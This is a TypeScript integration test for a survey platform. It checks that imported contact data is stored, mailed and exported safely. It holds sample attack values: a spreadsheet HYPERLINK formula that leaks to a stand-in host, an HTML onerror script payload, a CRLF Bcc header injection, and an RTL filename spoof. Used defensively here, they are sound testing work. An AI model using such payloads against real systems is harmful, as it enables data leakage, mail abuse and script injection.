import { sampleSatisfactionQuestionnaire } from '@survey/questionnaire';
import type { components } from '@survey/api-client';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { DataSource } from 'typeorm';
import { StaffRole } from '../src/auth/roles';
import { ContactImportsService } from '../src/contacts/contact-imports.service';
import { CampaignsService } from '../src/delivery/campaigns.service';
import { InvitationTokens } from '../src/delivery/invitation-tokens';
import { MailSender } from '../src/mail/mail-sender.service';
import { createTestApp, TestApp } from './utils/app';
import { answered, dataOf } from './utils/client';
import { createTestDatabase, TestDatabase } from './utils/database';
import { completeAnswers, importContacts } from './utils/respondents';
import { startSmtp, type Delivered, type TestSmtp } from './utils/smtp';
import { newStaff, sessionFor } from './utils/staff';

type CreateSurvey = components['schemas']['CreateSurveyDto'];

const root = join(__dirname, '../../..');
const FORMULA_ROLE = '@SUM(1+1)';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Click")';

/** Hostile but importable rows: every value is accepted and stored as the text it is. */
const HOSTILE = [
  { name: HYPERLINK, email: 'formula.name@example.org', role: FORMULA_ROLE },
  { name: '<img src=x onerror=alert(1)>Eve', email: 'html.name@example.org', role: HYPERLINK },
  { name: 'Ana\r\nBcc: victim@example.org', email: 'crlf.name@example.org', role: '+41 role' },
  { name: 'Zoë \u202egnp.exe', email: 'rtl.name@example.org', role: '-2+3' },
  { name: 'Long Role', email: 'long.role@example.org', role: `=${'x'.repeat(199)}` },
];

/** The extract as the platforms deliver it (shared/fixtures: BOM, CRLF, header row), quoted where needed. */
function hostileExtract(): Buffer {
  const header = [
    'full_name',
    'email',
    'country_code',
    'segment',
    'ir_numbers',
    'role',
    'customer_since',
    'platform',
    'preferred_language',
  ];
  const rows = HOSTILE.map((row) => [row.name, row.email, 'FR', 'agent', '', row.role, '', 'ePCT', 'en']);
  return Buffer.from(`\uFEFF${stringify([header, ...rows], { record_delimiter: 'windows' })}`, 'utf8');
}

function sourceFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? sourceFiles(path) : /\.(tsx?|html)$/.test(name) ? [path] : [];
  });
}

describe('imported text in every output: campaign filters, mail, exports, the SPAs', () => {
  let db: TestDatabase;
  let t: TestApp;
  let smtp: TestSmtp;
  let dataSource: DataSource;
  let analyst: string;
  let surveyId: string;

  const as = () => t.api({ staff: analyst });
  const path = () => ({ params: { path: { id: surveyId } } });
  const deliver = () => t.app.get(MailSender).runOnce(500);
  const mailTo = (email: string): Delivered => {
    const found = smtp.inbox.filter((d) => d.to === email);
    expect(found).toHaveLength(1);
    return found[0];
  };

  beforeAll(async () => {
    smtp = await startSmtp();
    db = await createTestDatabase();
    t = await createTestApp({ databaseUrl: db.url, env: { SMTP_URL: `smtp://127.0.0.1:${smtp.port}` } });
    dataSource = t.app.get(DataSource);
    analyst = await sessionFor(t.app, await newStaff(t.app, StaffRole.Analyst));
    const job = await dataOf(importContacts(as(), hostileExtract()), 202);
    await t.app.get(ContactImportsService).settled(job.id);
    const survey = await dataOf(
      as().POST('/api/v1/surveys', {
        body: {
          name: 'Hostile text',
          questionnaire: sampleSatisfactionQuestionnaire() as unknown as CreateSurvey['questionnaire'],
        },
      }),
      201,
    );
    surveyId = survey.id;
    await answered(as().POST('/api/v1/surveys/{id}/publish', path()), 200);
  });

  afterAll(async () => {
    await t?.close();
    await db?.drop();
    await smtp?.close();
  });

  it('stores every hostile value as the text it is', async () => {
    const [{ n }] = await dataSource.query('SELECT count(*)::int AS n FROM contacts');
    expect(n).toBe(HOSTILE.length);
    const roles = (await dataSource.query('SELECT role FROM contacts ORDER BY role')).map(
      (r: { role: string }) => r.role,
    );
    expect(roles.sort()).toEqual(HOSTILE.map((row) => row.role).sort());
  });

  it('matches a formula-like role as a filter value exactly, as text', async () => {
    const preview = await dataOf(
      as().POST('/api/v1/surveys/{id}/campaigns/preview', { ...path(), body: { roles: [FORMULA_ROLE] } }),
    );
    expect(preview.matching).toBe(1);
    const campaign = await dataOf(
      as().POST('/api/v1/surveys/{id}/campaigns', {
        ...path(),
        body: { name: FORMULA_ROLE, target: { roles: [FORMULA_ROLE.toLowerCase()] } },
      }),
      202,
    );
    expect(campaign.target.roles).toEqual([FORMULA_ROLE.toLowerCase()]);
    await t.app.get(CampaignsService).settled(campaign.id);
    await deliver();
    expect(smtp.inbox.map((d) => d.to)).toEqual(['formula.name@example.org']);
  });

  it('writes mail with each hostile name escaped, on one line, or not at all', async () => {
    const campaign = await dataOf(
      as().POST('/api/v1/surveys/{id}/campaigns', { ...path(), body: { name: 'Everyone', target: {} } }),
      202,
    );
    await t.app.get(CampaignsService).settled(campaign.id);
    await deliver();
    expect(smtp.inbox).toHaveLength(HOSTILE.length);
    for (const delivered of smtp.inbox) {
      // One recipient, the contact's own address; no header made of a name.
      expect(delivered.mail.headers.has('bcc')).toBe(false);
      expect(delivered.mail.headers.has('cc')).toBe(false);
      const subject = String(delivered.mail.subject);
      for (const row of HOSTILE) expect(subject).not.toContain(row.name.slice(0, 8));
    }
    const formula = mailTo('formula.name@example.org').mail;
    expect(formula.text?.split('\n')[0]).toBe('Dear Sir or Madam,');
    expect(formula.html).not.toContain('evil.example');

    const html = mailTo('html.name@example.org').mail;
    expect(html.html).not.toContain('<img');
    expect(html.html).toContain('&lt;img src=x onerror=alert(1)&gt;Eve');

    const crlf = mailTo('crlf.name@example.org').mail;
    expect(crlf.text?.split('\n')[0]).toBe('Dear Ana Bcc: victim@example.org,');
    expect(smtp.inbox.some((d) => d.to === 'victim@example.org')).toBe(false);

    const rtl = mailTo('rtl.name@example.org').mail;
    expect(rtl.text).not.toContain('\u202e');
    expect(rtl.html).not.toContain('\u202e');
  });

  it('writes a formula-like role into the raw-responses CSV prefixed with a quote', async () => {
    const [row] = await dataSource.query(
      `SELECT i.id FROM invitations i JOIN contacts c ON c.id = i.contact_id
        WHERE i.survey_id = $1 AND c.role = $2`,
      [surveyId, FORMULA_ROLE],
    );
    const [token] = await dataSource.transaction((m) => InvitationTokens.issue(m, [row.id]));
    await answered(
      t.api({ invitation: token }).POST('/api/v1/respond/submit', { body: { answers: completeAnswers() } }),
      200,
    );
    const { data } = await answered(
      as().GET('/api/v1/surveys/{id}/responses', {
        params: { path: { id: surveyId }, query: { format: 'csv' } },
        parseAs: 'text',
      }),
      200,
    );
    const [header, ...records] = parse(data as unknown as string, { bom: true }) as string[][];
    const roles = records.map((record) => record[header.indexOf('role')]);
    expect(roles).toEqual([`'${FORMULA_ROLE}`]);
    for (const record of records) for (const cell of record) expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
  });

  it('leaves HTML to React in both SPAs: no source sets raw HTML', () => {
    const files = ['apps/analyst/src', 'apps/respondent/src'].flatMap((dir) => sourceFiles(join(root, dir)));
    expect(files.length).toBeGreaterThan(20);
    const raw = files.filter((file) =>
      /dangerouslySetInnerHTML|\.innerHTML\s*=|insertAdjacentHTML/.test(readFileSync(file, 'utf8')),
    );
    expect(raw).toEqual([]);
  });
});
